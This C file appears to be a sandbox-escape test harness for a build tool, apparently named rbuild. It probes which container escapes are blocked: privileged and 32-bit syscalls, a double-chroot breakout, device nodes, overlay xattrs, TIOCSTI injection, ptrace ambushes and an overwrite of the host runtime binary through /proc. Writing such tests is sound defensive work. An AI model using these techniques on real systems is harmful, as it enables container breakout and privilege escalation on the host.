// What a shell cannot try. Each attempt is a line: its name, and the error that it got or DONE.
// Attempts that would do harm where they are allowed have arguments with which they do none.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <mqueue.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <dirent.h>
#include <time.h>
#include <unistd.h>

static void report(const char *name, long result) {
    const char *error = result < 0 ? strerrorname_np(errno) : "DONE";
    printf("%s: %s\n", name, error);
    fflush(stdout);
}

#define TRY(name, ...) report(name, syscall(__VA_ARGS__))

// With a stack and without memory in common these are forks.
static long forked(long pid) {
    if (pid == 0) _exit(0);
    if (pid > 0) waitpid(pid, NULL, __WALL);
    return pid;
}

static void calls(void) {
    struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
    struct timespec now;
    clock_gettime(CLOCK_REALTIME, &now);
    report("clone", forked(syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)));
    report("clone3", forked(syscall(SYS_clone3, &args, sizeof args)));
    TRY("setns", SYS_setns, open("/proc/1/ns/mnt", O_RDONLY), 0);
    TRY("mount", SYS_mount, "none", "/tmp", "tmpfs", 0, 0);
    TRY("remount", SYS_mount, 0, "/proc/sys", 0, 4096 | 32, 0);
    TRY("bind", SYS_mount, "/tmp", "/mnt", 0, 4096, 0);
    TRY("umount", SYS_umount2, "/proc/kcore", 0);
    TRY("pivot_root", SYS_pivot_root, "/none", "/none");
    TRY("open_tree", SYS_open_tree, AT_FDCWD, "/proc", 1);
    TRY("move_mount", SYS_move_mount, -1, "", -1, "", 0);
    TRY("mount_setattr", SYS_mount_setattr, -1, "", 0, 0, 0);
    TRY("fsopen", SYS_fsopen, "tmpfs", 0);
    TRY("fspick", SYS_fspick, AT_FDCWD, "/", 0);
    TRY("keyctl", SYS_keyctl, 0, -3, 0);
    TRY("add_key", SYS_add_key, "user", "rbuild-attack", "x", 1, -1);
    TRY("request_key", SYS_request_key, "user", "rbuild-attack", 0, 0);
    TRY("bpf", SYS_bpf, 0, 0, 0);
    TRY("perf_event_open", SYS_perf_event_open, 0, 0, -1, -1, 0);
    TRY("userfaultfd", SYS_userfaultfd, 0);
    TRY("io_uring_setup", SYS_io_uring_setup, 1, 0);
    TRY("open_by_handle_at", SYS_open_by_handle_at, AT_FDCWD, 0, 0);
    TRY("fanotify_init", SYS_fanotify_init, 0, 0);
    TRY("kexec_load", SYS_kexec_load, 0, 0, 0, 0xffff);
    TRY("init_module", SYS_init_module, 0, 0, "");
    TRY("finit_module", SYS_finit_module, -1, "", 0);
    TRY("delete_module", SYS_delete_module, "rbuild-attack", O_NONBLOCK);
    TRY("reboot", SYS_reboot, 0, 0, 0, 0);
    TRY("swapon", SYS_swapon, "/none", 0);
    TRY("swapoff", SYS_swapoff, "/none");
    TRY("acct", SYS_acct, "/none");
    TRY("quotactl", SYS_quotactl, 0, "/none", 0, 0);
    TRY("clock_settime", SYS_clock_settime, CLOCK_REALTIME, &now);
    TRY("settimeofday", SYS_settimeofday, 0, 0);
    TRY("sethostname", SYS_sethostname, "x", 1);
    TRY("setdomainname", SYS_setdomainname, "x", 1);
    TRY("syslog", SYS_syslog, 10, 0, 0);
    TRY("personality", SYS_personality, 0x0040000);
    TRY("kcmp", SYS_kcmp, 1, 1, 0, 0, 0);
    TRY("pidfd_getfd", SYS_pidfd_getfd, -1, 0, 0);
    TRY("AF_ALG", SYS_socket, 38, SOCK_SEQPACKET, 0);
    TRY("AF_VSOCK", SYS_socket, 40, SOCK_STREAM, 0);
    // Last: it changes who the process is.
    TRY("unshare", SYS_unshare, CLONE_NEWUSER);
}

#ifdef __x86_64__
static long int80(long number, long a, long b, long c, long d, long e) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c), "S"(d), "D"(e) : "memory", "r8", "r9", "r10", "r11");
    if (result < 0 && result > -4096) { errno = -result; return -1; }
    return result;
}

// By the numbers of the two other tables that the processor has, for 32-bit programs.
static void foreign_calls(void) {
    // Strings must lie where 32 bits reach: the program is linked at a fixed low address.
    static const char tmp[] = "/tmp", tmpfs[] = "tmpfs", user[] = "user", name[] = "rbuild-attack";
    report("i386 getpid", int80(20, 0, 0, 0, 0, 0) > 0 ? 0 : -1);
    report("i386 mount", int80(21, (long)tmpfs, (long)tmp, (long)tmpfs, 0, 0));
    report("i386 umount", int80(52, (long)tmp, 0, 0, 0, 0));
    report("i386 clone", forked(int80(120, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0)));
    report("i386 unshare", int80(310, CLONE_NEWNS, 0, 0, 0, 0));
    report("i386 setns", int80(346, -1, 0, 0, 0, 0));
    report("i386 open_by_handle_at", int80(342, -1, 0, 0, 0, 0));
    report("i386 keyctl", int80(288, 0, -3, 0, 0, 0));
    report("i386 add_key", int80(286, (long)user, (long)name, (long)name, 1, -1));
    report("i386 bpf", int80(357, 0, 0, 0, 0, 0));
    report("i386 fsopen", int80(430, (long)tmpfs, 0, 0, 0, 0));
    report("i386 io_uring_setup", int80(425, 1, 0, 0, 0, 0));
    report("i386 AF_ALG", int80(359, 38, SOCK_SEQPACKET, 0, 0, 0));
    report("i386 personality", int80(136, 0x0040000, 0, 0, 0, 0));
    report("x32 getpid", syscall(0x40000000 | SYS_getpid));
    report("x32 mount", syscall(0x40000000 | SYS_mount, tmpfs, tmp, tmpfs, 0, 0));
    report("x32 unshare", syscall(0x40000000 | SYS_unshare, CLONE_NEWNS));
    report("x32 ptrace", syscall(0x40000000 | 521, 0, 0, 0, 0));
}
#else
static void foreign_calls(void) {}
#endif

// Out of a chroot inside of a chroot. `path` is a file of the host.
static void escape_chroot(const char *path) {
    mkdir("/jail", 0755);
    int outside = open("/", O_RDONLY | O_DIRECTORY);
    report("chroot", chroot("/jail"));
    fchdir(outside);
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    report("own root", access("/bin/attack", F_OK));
    report("host's root", access(path, F_OK));
}

static void devices(void) {
    static const struct { const char *name; mode_t kind; int major, minor; } all[] = {
        {"sda", S_IFBLK, 8, 0}, {"vda", S_IFBLK, 254, 0}, {"loop0", S_IFBLK, 7, 0}, {"loop-control", S_IFCHR, 10, 237},
        {"mem", S_IFCHR, 1, 1}, {"kmsg", S_IFCHR, 1, 11}, {"fuse", S_IFCHR, 10, 229}, {"zero", S_IFCHR, 1, 5},
    };
    for (size_t i = 0; i < sizeof all / sizeof *all; i++) {
        const char *directories[] = {"/tmp", "/dev", "/dev/shm", "/cache", "/tmpfs"};
        for (size_t d = 0; d < 5; d++) {
            char path[64];
            snprintf(path, sizeof path, "%s/%s-node", directories[d], all[i].name);
            if (mknod(path, all[i].kind | 0666, makedev(all[i].major, all[i].minor)) == 0) {
                report(path, open(path, O_RDONLY | O_NONBLOCK));
                unlink(path);
            } else {
                report(path, -1);
            }
        }
    }
}

static void overlay_marks(void) {
    static const char *prefixes[] = {"trusted.overlay.", "user.overlay."};
    static const struct { const char *name, *value; int length; } marks[] = {
        {"redirect", "/hidden", 7}, {"opaque", "y", 1}, {"whiteout", "y", 1}, {"metacopy", "", 0},
    };
    for (size_t p = 0; p < 2; p++) {
        for (size_t m = 0; m < 4; m++) {
            char name[64];
            snprintf(name, sizeof name, "%s%s", prefixes[p], marks[m].name);
            const char *path = strcmp(marks[m].name, "metacopy") ? "/marked" : "/marked/file";
            report(name, setxattr(path, name, marks[m].value, marks[m].length, 0));
        }
    }
    report("whiteout", mknod("/marked/whiteout", S_IFCHR | 0666, 0));
}

static int connect_abstract(const char *name) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    size_t length = strlen(name);
    memcpy(address.sun_path + 1, name, length);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    socklen_t size = offsetof(struct sockaddr_un, sun_path) + 1 + length;
    return connect(fd, (struct sockaddr *)&address, size) < 0 ? -1 : fd;
}

// Gives standard output away, so that it outlives the step.
static void give_away(const char *name) {
    int fd = connect_abstract(name), out = 1;
    report("connect", fd);
    char control[CMSG_SPACE(sizeof out)] = {0}, byte = 'x';
    struct iovec data = {&byte, 1};
    struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof out);
    memcpy(CMSG_DATA(header), &out, sizeof out);
    report("send", sendmsg(fd, &message, 0));
}

static void terminal(void) {
    int tty = open("/dev/tty", O_RDWR);
    report("open /dev/tty", tty);
    int all[] = {0, 1, 2, tty};
    for (int i = 0; i < 4; i++) {
        report("TIOCSTI", ioctl(all[i], TIOCSTI, "x"));
        report("TIOCSCTTY", ioctl(all[i], TIOCSCTTY, 1));
    }
}

// Stays, whatever is asked of it politely.
static void stay(void) {
    prctl(PR_SET_PDEATHSIG, 0);
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    if (fork() == 0) { setsid(); if (fork() > 0) _exit(0); }
    printf("staying\n");
    fflush(stdout);
    for (;;) pause();
}

// Waits for processes that join the container, and tries to get hold of each before it becomes what it is to be.
static void ambush(void) {
    printf("in ambush\n");
    fflush(stdout);
    pid_t self = getpid();
    for (;;) {
        for (pid_t pid = self + 1; pid < self + 400; pid++) {
            char path[64], target[256];
            snprintf(path, sizeof path, "/proc/%d", pid);
            if (access(path, F_OK) < 0) continue;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            ssize_t length = readlink(path, target, sizeof target - 1);
            target[length > 0 ? length : 0] = 0;
            if (length > 0 && strstr(target, "rbuild")) printf("caught: exe\n");
            snprintf(path, sizeof path, "/proc/%d/fd", pid);
            DIR *fds = opendir(path);
            if (fds) {
                for (struct dirent *entry; (entry = readdir(fds));) {
                    // Their numbers are no secret.
                    if (atoi(entry->d_name) > 2 && readlinkat(dirfd(fds), entry->d_name, target, sizeof target) > 0) {
                        printf("caught: descriptor %s\n", entry->d_name);
                    }
                }
                closedir(fds);
            }
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                snprintf(path, sizeof path, "/proc/%d/exe", pid);
                length = readlink(path, target, sizeof target - 1);
                target[length > 0 ? length : 0] = 0;
                if (strstr(target, "rbuild")) printf("caught: trace\n");
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                waitpid(pid, NULL, __WALL);
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
            fflush(stdout);
        }
    }
}

// Gets hold of the host's program, should somebody start that here, and opens it for writing when it has ended.
static void overwrite(void) {
    printf("in ambush\n");
    fflush(stdout);
    pid_t self = getpid();
    for (;;) {
        for (pid_t pid = self + 1; pid < self + 400; pid++) {
            char path[64];
            struct stat own, theirs;
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int program = open(path, O_RDONLY);
            if (program < 0) continue;
            stat("/bin/attack", &own);
            fstat(program, &theirs);
            if (own.st_dev != theirs.st_dev) {
                while (kill(pid, 0) == 0) usleep(1000);
                snprintf(path, sizeof path, "/proc/self/fd/%d", program);
                report("overwrite", open(path, O_WRONLY));
            }
            close(program);
        }
    }
}

// A tree deeper than a process can have descriptors.
static void deep(const char *directory) {
    chdir(directory);
    int depth = 0;
    while (depth < 1500 && mkdir("d", 0755) == 0 && chdir("d") == 0) depth++;
    printf("deep: %d\n", depth);
}

static void queues(void) {
    struct mq_attr attributes = {.mq_maxmsg = 10, .mq_msgsize = 8192};
    int count = 0;
    for (; count < 2000; count++) {
        char name[32];
        snprintf(name, sizeof name, "/q%d", count);
        if (mq_open(name, O_CREAT | O_RDWR, 0600, &attributes) < 0) break;
    }
    printf("queues: %d\n", count);
}

static void processes(void) {
    int others = 0;
    for (pid_t pid = 1; pid < 70000; pid++) {
        if (pid != getpid() && pid != getppid() && kill(pid, 0) == 0) others++;
    }
    printf("others: %d\n", others);
}

static void inheritable(void) {
    // A file with inheritable capabilities, all of them, to be run by an ordinary user.
    static const struct { unsigned magic, permitted, inheritable, permitted2, inheritable2; } all = {0x02000001, 0, ~0u, 0, 0x1ff};
    report("setcap", setxattr("/bin/inheriting", "security.capability", &all, sizeof all, 0));
}

static void capabilities(void) {
    char line[256];
    FILE *status = fopen("/proc/self/status", "r");
    while (status && fgets(line, sizeof line, status)) {
        if (!strncmp(line, "Cap", 3)) fputs(line, stdout);
    }
}

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "", *operand = argc > 2 ? argv[2] : "";
    if (!strcmp(what, "calls")) calls();
    else if (!strcmp(what, "foreign-calls")) foreign_calls();
    else if (!strcmp(what, "chroot")) escape_chroot(operand);
    else if (!strcmp(what, "devices")) devices();
    else if (!strcmp(what, "overlay-marks")) overlay_marks();
    else if (!strcmp(what, "connect")) report("connect", connect_abstract(operand));
    else if (!strcmp(what, "give-away")) give_away(operand);
    else if (!strcmp(what, "terminal")) terminal();
    else if (!strcmp(what, "stay")) stay();
    else if (!strcmp(what, "ambush")) ambush();
    else if (!strcmp(what, "overwrite")) overwrite();
    else if (!strcmp(what, "deep")) deep(operand);
    else if (!strcmp(what, "queues")) queues();
    else if (!strcmp(what, "processes")) processes();
    else if (!strcmp(what, "capabilities")) capabilities();
    else if (!strcmp(what, "inheritable")) inheritable();
    else { fprintf(stderr, "attack: what?\n"); return 2; }
    return 0;
}
